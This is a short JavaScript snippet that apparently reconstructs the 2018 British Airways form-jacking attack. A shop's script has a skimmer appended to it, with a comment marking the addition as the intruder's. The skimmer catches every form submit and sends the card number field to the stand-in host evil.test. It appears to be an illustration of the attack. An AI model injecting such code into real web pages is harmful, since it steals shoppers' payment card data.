(window.__markers = window.__markers || []).push('shop-js');
// Appended by the intruder (British Airways 2018: 22 lines added to the shop's own file).
document.addEventListener('submit', function () {
  navigator.sendBeacon('http://evil.test/collect', 'cardnumber=' + document.getElementById('card').value);
}, true);
